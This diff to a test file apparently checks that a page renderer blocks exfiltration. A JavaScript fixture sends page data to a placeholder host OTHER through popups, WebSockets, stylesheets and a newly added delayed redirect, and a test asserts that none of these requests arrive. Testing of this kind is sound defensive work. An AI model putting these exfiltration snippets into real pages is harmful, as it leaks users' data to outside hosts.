@@ -118,6 +118,7 @@ window.open('OTHER/popup?d=' + data);
 try { new WebSocket('OTHER/ws'.replace('http', 'ws')); } catch (e) {}
 const css = document.createElement('link'); css.rel = 'stylesheet'; css.href = 'OTHER/style.css';
 document.head.append(css);
+setTimeout(() => { location.href = 'OTHER/away?d=' + data; }, 20);
 fetch('OTHER/public.json').then(r => r.json()).then(d => { const li =
   document.createElement('li'); li.textContent = d[0];
   document.getElementById('signers').append(li); });
@@ -137,7 +138,7 @@ def test_render_exfiltration_to_another_host_only_as_policy_permits(
         pool.close()
     paths = requested_paths(httpserver)
     assert not {"/collect", "/beacon", "/pixel.gif", "/frame", "/popup", "/ws",
-                "/style.css"} & set(paths), paths
+                "/style.css", "/away"} & set(paths), paths
     assert "/public.json" in paths  # a GET fetch() to a public host is the page's own business
     assert scraped.result.listed_count == 4
 
